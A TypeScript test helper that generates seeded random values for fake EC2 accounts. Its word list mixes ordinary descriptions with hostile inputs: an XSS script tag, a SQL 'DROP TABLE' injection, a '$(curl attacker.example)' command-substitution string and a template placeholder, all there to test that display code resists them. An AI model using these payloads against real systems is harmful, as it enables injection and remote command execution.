// Chance for generated accounts, from a seed.
import type { Chance } from '../../playbooks/language/generate.ts';
import { createRandom } from './random.ts';

/** EC2 takes nearly anything as a description or a tag; whoever shows it must not be taken in by any of it. */
const words: readonly [string, ...string[]] = [
  'web server',
  '',
  'Primary network interface',
  'x'.repeat(120),
  'Straße 7, Übergang',
  '日本語の説明',
  '<script>alert(1)</script>',
  "'; DROP TABLE incidents; --",
  '$(curl attacker.example)',
  '{{incident}}',
  'fb-0123456789ab',
  ' leading and trailing ',
  'a=b,c=d;e',
  'null',
];

export const chanceFrom = (seed: number): Chance => {
  const random = createRandom(seed, 'chance');
  const happens = (inHundred: number): boolean => random.next() * 100 < inHundred;
  const oneOf = <const T>(choices: readonly [T, ...T[]]): T =>
    choices[random.between(0, choices.length - 1)] ?? choices[0];
  return {
    happens,
    oneOf,
    between: random.between,
    some: (choices) => choices.filter(() => happens(50)),
    words: () => oneOf(words),
  };
};
